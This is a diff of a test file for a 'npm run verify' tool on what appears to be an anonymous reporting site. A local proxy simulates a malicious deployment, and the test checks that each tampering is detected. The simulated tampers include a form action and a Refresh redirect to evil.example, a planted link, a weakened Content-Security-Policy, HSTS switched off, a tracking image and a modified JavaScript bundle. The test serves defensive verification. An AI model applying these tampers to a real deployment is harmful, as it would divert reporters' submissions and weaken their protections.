@@ -1,12 +1,17 @@
 /**
- * `npm run verify` against real wrangler dev serving a built copy of this source: "identical" when
- * the copy is as built, and the tampered file named (exit code 1) when one byte of one bundle is
- * changed, which real Chromium then also refuses to run (Subresource Integrity); and each page named
- * when the pages' Content-Security-Policy is loosened.
+ * `npm run verify` against real wrangler dev serving a built copy of this source, behind a local
+ * proxy that plays a malicious deployment: "identical" while the proxy passes everything through,
+ * and, when it tampers, each tampered page, header and bundle named with a `differs:` line (exit code
+ * 1): a page without its bundle whose form posts the report natively, a second native form for the
+ * receipt code, a Refresh header, changed Set-Cookie, Cache-Control, Referrer-Policy,
+ * Permissions-Policy, Strict-Transport-Security and Content-Security-Policy, the constancia page, a
+ * plant's form and poster, an English page, and one byte of one bundle (which real Chromium then
+ * also refuses to run: Subresource Integrity). One build and one server serve every case.
  */
 import { execFile } from 'node:child_process';
-import { readFileSync, rmSync, writeFileSync } from 'node:fs';
-import { join } from 'node:path';
+import { createServer, type IncomingMessage, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { rmSync } from 'node:fs';
 import { fileURLToPath } from 'node:url';
 import { promisify } from 'node:util';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -20,17 +25,99 @@ const repo = fileURLToPath(new URL('../..', import.meta.url));
 /** An administrator key of the served build's own, so verify must take it from the manifest to match. */
 const ADMIN_KEY = Buffer.alloc(32, 7).toString('base64url');
 
+interface Answer {
+  headers: Headers;
+  body: Buffer;
+}
+type Tamper = (a: Answer) => void;
+
+/** Replaces text in an HTML answer, and fails the test if the text was not there (the tamper would be a no-op). */
+const html =
+  (...edits: [string | RegExp, string][]): Tamper =>
+  (a) => {
+    let page = a.body.toString('utf8');
+    for (const [from, to] of edits) {
+      const next = page.replace(from, to);
+      if (next === page) throw new Error(`tamper: ${String(from)} not found`);
+      page = next;
+    }
+    a.body = Buffer.from(page);
+  };
+const header =
+  (name: string, value: string): Tamper =>
+  (a) =>
+    name === 'set-cookie' ? a.headers.append(name, value) : a.headers.set(name, value);
+
+/** What the malicious deployment changes, by request path; verify must name exactly these. */
+const TAMPERED: Record<string, { tamper: Tamper; named: RegExp }> = {
+  // No bundle at all, and a plain form that posts the report's fields as typed.
+  '/': {
+    tamper: html([/<script type="module" src="\/assets\/report\.js"[^>]*><\/script>/, ''], ['<form id="report" novalidate=""', '<form id="report" method="post" action="/"'], ['<textarea id="description"', '<textarea name="description" id="description"']),
+    named: /^differs: \/: has forms <form method="post" action="\/">, the local build's page has <form method="get" action="">/m,
+  },
+  // The bundle kept, the receipt code moved to a second form that posts natively.
+  '/seguimiento': {
+    tamper: html([/<input type="text" id="receipt-code"[^>]*\/>/, ''], ['</form>', '</form><form method="post" action="/seguimiento"><input type="text" id="receipt-code" name="receipt"/></form>']),
+    named: /^differs: \/seguimiento: has forms <form method="get" action=""> <form method="post" action="\/seguimiento">/m,
+  },
+  '/sin-rastro': { tamper: header('refresh', '0; url=https://evil.example/'), named: /^differs: \/sin-rastro: sends refresh "0; url=https:\/\/evil\.example\/", the local build sends none$/m },
+  '/transparencia': { tamper: header('set-cookie', 'seen=1; Path=/'), named: /^differs: \/transparencia: sends set-cookie "seen=1; Path=\/", the local build sends none$/m },
+  '/console': { tamper: header('cache-control', 'public, max-age=600'), named: /^differs: \/console: sends cache-control "public, max-age=600", the local build sends "no-store"$/m },
+  '/seguimiento?lang=en': { tamper: header('referrer-policy', 'unsafe-url'), named: /^differs: \/seguimiento\?lang=en: sends referrer-policy "unsafe-url", the local build sends "no-referrer"$/m },
+  '/sin-rastro?lang=en': { tamper: header('permissions-policy', 'microphone=*'), named: /^differs: \/sin-rastro\?lang=en: sends permissions-policy "microphone=\*", the local build sends "geolocation=\(\)/m },
+  // Over http the source sends no HSTS; a deployment that sends max-age=0 switches it off for the https site.
+  '/verify/no-such-page': { tamper: header('strict-transport-security', 'max-age=0'), named: /^differs: \/verify\/no-such-page: sends strict-transport-security "max-age=0", the local build sends none$/m },
+  '/console?lang=en': {
+    tamper: (a) => a.headers.set('content-security-policy', a.headers.get('content-security-policy')!.replace("script-src 'self'", "script-src 'self' 'unsafe-inline'")),
+    named: /^differs: \/console\?lang=en: sends content-security-policy ".*'unsafe-inline'.*", the local build sends "/m,
+  },
+  '/constancia': { tamper: html(['action="/constancia?lang=es"', 'action="https://evil.example/constancia"']), named: /^differs: \/constancia: has forms <form method="post" action="https:\/\/evil\.example\/constancia">/m },
+  // The plant's own form, the poster's QR target, without its quick exit.
+  '/f/demo': { tamper: html([/<a id="quick-exit"[^>]*>[^<]*<\/a>/, '']), named: /^differs: \/f\/demo: its markup parts from the local build's at tag \d+ of \d+: served <\/nav>, the local build has <a [^>]*id="quick-exit"/m },
+  // The answer to the constancia form's native POST.
+  'POST /constancia': { tamper: html(['<main>', '<main><img src="/assets/seen.png" alt="">']), named: /^differs: POST \/constancia: its markup parts from the local build's at tag \d+ of \d+: served <img alt="" src="\/assets\/seen\.png">/m },
+  // The poster's QR code leads elsewhere.
+  '/f/demo/cartel': {
+    tamper: html([/<img class="qr" src="[^"]*"/, `<img class="qr" src="data:image/svg+xml;base64,${Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>').toString('base64')}"`]),
+    named: /^differs: \/f\/demo\/cartel: its markup parts from the local build's at tag \d+ of \d+: served <img alt="[^"]*" class="qr" src="data:image\/svg\+xml;base64,PHN2/m,
+  },
+  '/?lang=en': { tamper: html(['<main>', '<main><p><a href="https://evil.example/help">Help</a></p>']), named: /^differs: \/\?lang=en: its markup parts from the local build's at tag \d+ of \d+: served <p>, the local build has /m },
+  '/assets/follow-up.js': {
+    tamper: (a) => {
+      const at = a.body.length >> 1;
+      a.body[at] = a.body[at]! ^ 0x01;
+    },
+    named: /^differs: \/assets\/follow-up\.js: served bytes have sha256 /m,
+  },
+};
+
 let copy: string;
 let stateDir: string;
-let server: DevServer | undefined;
+let server: DevServer;
+let proxy: Server;
+let origin: string;
+let tampering = false;
 
-async function verify(origin: string): Promise<{ code: number; stdout: string; differing: string[] }> {
-  const args = ['tsx', 'scripts/verify.ts', origin, '--worktree', '--facility', 'demo'];
-  const result = await run('npx', args, { cwd: repo }).then(
+/** The request as the browser sent it, to the served copy; the answer, tampered with if asked. */
+async function relay(req: IncomingMessage): Promise<{ status: number; answer: Answer }> {
+  const chunks: Buffer[] = [];
+  for await (const chunk of req) chunks.push(chunk as Buffer);
+  const headers = new Headers();
+  for (const [name, value] of Object.entries(req.headers)) if (name !== 'host' && typeof value === 'string') headers.set(name, value);
+  const res = await fetch(new URL(req.url!, server.url), { method: req.method, headers, body: chunks.length ? Buffer.concat(chunks) : undefined, redirect: 'manual' });
+  const answer = { headers: new Headers(res.headers), body: Buffer.from(await res.arrayBuffer()) };
+  answer.headers.delete('content-length');
+  answer.headers.delete('content-encoding');
+  if (tampering) TAMPERED[`${req.method === 'POST' ? 'POST ' : ''}${req.url!}`]?.tamper(answer);
+  return { status: res.status, answer };
+}
+
+async function verify(): Promise<{ code: number; stdout: string; differing: string[] }> {
+  const result = await run('npx', ['tsx', 'scripts/verify.ts', origin, '--worktree'], { cwd: repo }).then(
     ({ stdout }) => ({ code: 0, stdout }),
     (error: { code: number; stdout: string; stderr: string }) => ({ code: error.code, stdout: `${error.stdout}${error.stderr}` }),
   );
-  const differing = [...new Set([...result.stdout.matchAll(/^differs: (\S+):/gm)].map((m) => m[1]!))];
+  const differing = [...new Set([...result.stdout.matchAll(/^differs: ((?:POST )?\S+):/gm)].map((m) => m[1]!))];
   return { ...result, differing };
 }
 
@@ -52,51 +139,51 @@ beforeAll(async () => {
   copy = exportTree(repo, 'worktree', 'buzon-served-');
   buildTree(copy, { commit: sourceCommit(repo, {}), adminSignPk: ADMIN_KEY });
   stateDir = await prepareState();
-});
+  proxy = createServer((req, res) => {
+    relay(req).then(
+      ({ status, answer }) => {
+        const cookies = answer.headers.getSetCookie();
+        const plain = [...answer.headers].filter(([name]) => name !== 'set-cookie');
+        res.writeHead(status, [...plain, ...cookies.map((c) => ['set-cookie', c])].flat());
+        res.end(answer.body);
+      },
+      (error: unknown) => res.writeHead(502).end(String(error)),
+    );
+  });
+  await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
+  origin = `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`;
+  // The posters name the origin verify checks, as a deployment's PUBLIC_ORIGIN would.
+  server = await startDevServer({ stateDir, cwd: copy, vars: { PUBLIC_ORIGIN: origin } });
+  // A build, a migrated and seeded state and a wrangler dev: minutes on a loaded 2-core machine.
+}, 600_000);
 
 afterAll(async () => {
   await server?.stop();
-  rmSync(copy, { recursive: true, force: true });
-  rmSync(stateDir, { recursive: true, force: true });
+  await new Promise<void>((resolve) => (proxy ? proxy.close(() => resolve()) : resolve()));
+  for (const dir of [copy, stateDir]) if (dir) rmSync(dir, { recursive: true, force: true });
 });
 
 describe('npm run verify', () => {
-  it('should call a deployment of this source identical, and Chromium should run its pinned scripts', async () => {
-    server = await startDevServer({ stateDir, cwd: copy });
-    const result = await verify(server.url);
+  it('should call a deployment of this source identical on every page of both languages, and Chromium should run its pinned scripts', async () => {
+    tampering = false;
+    const result = await verify();
     expect(result.stdout).toContain(`ADMIN_SIGN_PK ${ADMIN_KEY}`);
+    expect(result.stdout).toMatch(/^verify: the pages name 1 plant \(demo \(demo@buzon\.example\.org\)\)/m);
     expect(result.differing).toEqual([]);
-    expect(result.stdout).toMatch(/^identical: \d+ assets, 11 pages and the manifest match the local build$/m);
+    // 8 pages in 2 languages, and the demo plant's form in 2 languages and its poster on 2 papers.
+    expect(result.stdout).toMatch(/^identical: \d+ assets, 20 pages and the manifest match the local build$/m);
     expect(result.code).toBe(0);
-    expect((await consoleOf(`${server.url}/seguimiento`)).filter((m) => m.includes('integrity'))).toEqual([]);
-    await server.stop();
-    server = undefined;
+    expect((await consoleOf(`${origin}/seguimiento`)).filter((m) => m.includes('integrity'))).toEqual([]);
   });
 
-  it('should name the one bundle whose byte was changed, and Chromium should refuse to run it', async () => {
-    const file = join(copy, 'public/assets/follow-up.js');
-    const bytes = readFileSync(file);
-    const at = bytes.length >> 1;
-    bytes[at] = bytes[at]! ^ 0x01;
-    writeFileSync(file, bytes);
-    server = await startDevServer({ stateDir, cwd: copy });
-    const result = await verify(server.url);
-    expect(result.differing).toEqual(['/assets/follow-up.js']);
-    expect(result.stdout).toMatch(/^differs: \/assets\/follow-up\.js: served bytes have sha256 /m);
+  it('should name each tampered page, header and bundle, and nothing else, and Chromium should refuse the changed bundle', async () => {
+    tampering = true;
+    const result = await verify();
+    expect(result.differing.sort()).toEqual(Object.keys(TAMPERED).sort());
+    for (const { named } of Object.values(TAMPERED)) expect(result.stdout).toMatch(named);
     expect(result.stdout).not.toMatch(/^identical/m);
     expect(result.code).toBe(1);
-    const refused = (await consoleOf(`${server.url}/seguimiento`)).filter((m) => m.includes('integrity'));
+    const refused = (await consoleOf(`${origin}/seguimiento`)).filter((m) => m.includes('integrity'));
     expect(refused.join('\n')).toMatch(/follow-up\.js.*blocked|blocked.*follow-up\.js/s);
-  });
-
-  it('should name every page whose Content-Security-Policy was loosened to let inline scripts run', async () => {
-    await server?.stop();
-    const csp = join(copy, 'src/lib/csp.ts');
-    writeFileSync(csp, readFileSync(csp, 'utf8').replace(`"script-src 'self' 'wasm-unsafe-eval'"`, `"script-src 'self' 'unsafe-inline' 'wasm-unsafe-eval'"`));
-    server = await startDevServer({ stateDir, cwd: copy });
-    const result = await verify(server.url);
-    expect(result.differing).toEqual(expect.arrayContaining(['/', '/seguimiento', '/console', '/sin-rastro', '/transparencia', '/verify/no-such-page', '/f/demo']));
-    expect(result.stdout).toMatch(/^differs: \/seguimiento: sends Content-Security-Policy ".*'unsafe-inline'.*", the local build sends /m);
-    expect(result.code).toBe(1);
   });
 });
